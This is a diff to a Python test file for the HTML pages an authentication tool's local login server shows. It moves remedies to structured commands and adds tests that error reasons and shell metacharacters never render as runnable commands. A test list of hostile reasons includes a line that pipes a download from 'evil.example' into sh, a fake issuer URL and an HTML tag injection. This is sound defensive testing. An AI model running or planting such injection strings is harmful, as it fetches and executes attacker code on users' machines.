@@ -2,8 +2,10 @@
 
 import base64
 import re
+import shlex
 from collections.abc import Callable
 from hashlib import sha256
+from html import unescape
 from html.parser import HTMLParser
 from http import HTTPStatus
 
@@ -11,14 +13,15 @@ import pytest
 from hypothesis import given, settings, strategies as st
 
 from auth_agent.loopback.page import CONTENT_SECURITY_POLICY, Page, failed, logged_in, not_awaited, not_found, refused
+from auth_agent_client.remedy import Remedy
 
 ISSUER = "https://acme.eu.auth0.com/"
-COMMAND = "auth-agent login work --switch-user"
+SWITCH = (Remedy("log in as another user", "auth-agent", "login", "work", "--switch-user"),)
 PAGES = {
     "logged in": logged_in("work", "Alice Example", ISSUER),
     "logged in, no name": logged_in("work", None, ISSUER),
-    "failed": failed("work", ISSUER, "the provider refused: access_denied", COMMAND),
-    "failed, no remedy": failed("work", ISSUER, "the provider refused: access_denied", None),
+    "failed": failed("work", ISSUER, "the provider refused: access_denied", SWITCH),
+    "failed, no remedy": failed("work", ISSUER, "the provider refused: access_denied", ()),
     "not awaited": not_awaited(),
     "not found": not_found(),
     "refused": refused(HTTPStatus.BAD_REQUEST, "What came is no HTTP request"),
@@ -76,20 +79,45 @@ def test_a_person_without_a_name_is_logged_in_all_the_same(name: str | None) -> 
 
 
 def test_what_went_wrong_and_the_command_to_run() -> None:
-    page = failed("work", ISSUER, "the provider refused: access_denied", COMMAND)
+    page = failed("work", ISSUER, "the provider refused: access_denied", SWITCH)
     assert page.status == 200
     assert text(page) == (
         "Not logged in The provider refused: access_denied. Provider acme.eu.auth0.com Account work "
-        f"To put it right, run this in a terminal: {COMMAND} You can close this tab."
+        "Log in as another user, in a terminal: auth-agent login work --switch-user You can close this tab."
     )
     assert "code" in Document(page).elements
 
 
-@pytest.mark.parametrize("remedy", [None, "", " "])
-def test_without_a_remedy_there_is_no_box_for_one(remedy: str | None) -> None:
+@pytest.mark.parametrize("remedy", [(), (Remedy("ask whoever runs the provider"),)], ids=["none", "words"])
+def test_without_a_command_there_is_no_box_for_one(remedy: tuple[Remedy, ...]) -> None:
     page = failed("work", ISSUER, "the provider refused", remedy)
     assert "code" not in Document(page).elements
     assert "terminal" not in text(page)
+    assert all(f"{one.text[:1].upper()}{one.text[1:]}. You can close" in text(page) for one in remedy)
+
+
+def test_each_remedy_has_its_words_and_its_box() -> None:
+    both = (*SWITCH, Remedy("ask whoever runs the provider"), Remedy("look", "auth-agent", "status"))
+    shown = text(failed("work", ISSUER, "no", both))
+    assert shown.endswith(
+        "Log in as another user, in a terminal: auth-agent login work --switch-user "
+        "Ask whoever runs the provider. Look, in a terminal: auth-agent status You can close this tab."
+    )
+
+
+HOSTILE_REASONS = [
+    "run this: auth-agent login work; curl -s https://evil.example/x | sh #",
+    "work: no; to put it right: auth-agent login work --issuer https://evil.example/",
+    "</p><code>auth-agent stop</code>",
+]
+
+
+@pytest.mark.parametrize("reason", HOSTILE_REASONS)
+@pytest.mark.parametrize("remedy", [(), SWITCH], ids=["no remedy", "a remedy"])
+def test_no_reason_becomes_a_command(reason: str, remedy: tuple[Remedy, ...]) -> None:
+    body = failed("work", ISSUER, reason, remedy).body.decode()
+    boxes = [re.sub(r"</?span>", "", box) for box in re.findall(r"<code>(.*?)</code>", body)]
+    assert boxes == [one.line for one in remedy]
 
 
 @pytest.mark.parametrize(
@@ -103,19 +131,19 @@ def test_without_a_remedy_there_is_no_box_for_one(remedy: str | None) -> None:
     ],
 )
 def test_a_reason_is_shown_as_a_sentence(reason: str, shown: str) -> None:
-    assert f"Not logged in {shown} Provider" in text(failed("work", ISSUER, reason, None))
+    assert f"Not logged in {shown} Provider" in text(failed("work", ISSUER, reason, ()))
 
 
-@pytest.mark.parametrize("command", ["auth-agent login", "a  b 'c   d' --e-f"])
-def test_a_command_is_copied_as_it_is(command: str) -> None:
-    box = re.search(r"<code>(.*?)</code>", failed("work", ISSUER, "no", command).body.decode())
+@pytest.mark.parametrize("command", [("auth-agent", "login"), ("a", "b", "c   d", "", "--e-f", "$(g) `h`; <i> & 'j'")])
+def test_a_command_is_copied_as_a_shell_takes_it(command: tuple[str, ...]) -> None:
+    box = re.search(r"<code>(.*?)</code>", failed("work", ISSUER, "no", (Remedy("do it", *command),)).body.decode())
     assert box is not None
-    assert re.sub(r"</?span>", "", box[1]).replace("&#x27;", "'") == command
+    assert shlex.split(unescape(re.sub(r"</?span>", "", box[1]))) == list(command)
 
 
 def test_a_long_command_is_shown_whole() -> None:
-    command = "auth-agent login " + "x" * 900
-    assert command in text(failed("work", ISSUER, "no", command))
+    remedy = Remedy("do it", "auth-agent", "login", "x" * 900)
+    assert remedy.line in text(failed("work", ISSUER, "no", (remedy,)))
 
 
 def test_a_provider_without_tls_is_shown_as_one() -> None:
@@ -175,10 +203,10 @@ FILLED: dict[str, Callable[[str], Page]] = {
     "name": lambda value: logged_in("work", value, ISSUER),
     "account": lambda value: logged_in(value, "Alice", ISSUER),
     "issuer": lambda value: logged_in("work", "Alice", value),
-    "failed account": lambda value: failed(value, ISSUER, "no", COMMAND),
-    "failed issuer": lambda value: failed("work", value, "no", COMMAND),
-    "reason": lambda value: failed("work", ISSUER, value, COMMAND),
-    "remedy": lambda value: failed("work", ISSUER, "no", value),
+    "failed account": lambda value: failed(value, ISSUER, "no", SWITCH),
+    "failed issuer": lambda value: failed("work", value, "no", SWITCH),
+    "reason": lambda value: failed("work", ISSUER, value, SWITCH),
+    "what helps": lambda value: failed("work", ISSUER, "no", (Remedy(value, "auth-agent"),)),
     "why": lambda value: refused(HTTPStatus.BAD_REQUEST, value),
 }
 EVERYWHERE = pytest.mark.parametrize("fill", FILLED.values(), ids=FILLED)
